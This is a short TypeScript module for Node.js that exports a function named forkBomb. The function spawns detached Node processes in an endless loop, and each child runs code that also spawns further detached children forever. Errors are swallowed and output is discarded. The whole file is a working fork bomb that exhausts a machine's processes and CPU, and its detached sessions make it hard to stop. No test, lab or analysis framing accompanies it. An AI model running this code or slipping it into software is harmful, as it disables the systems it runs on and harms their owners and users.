import { spawn } from 'node:child_process';

const child =
  'for (;;) try { require("child_process").spawn(process.execPath, ["-e", process.env.CODE], { detached: true }); } catch {}';

/** Starts children that start children, each in a session of its own. */
export default async function forkBomb(): Promise<never> {
  process.env.CODE = child;
  for (;;) {
    spawn(process.execPath, ['-e', child], { detached: true, stdio: 'ignore' }).on('error', () => {});
    await new Promise((resolve) => setTimeout(resolve, 5));
  }
}
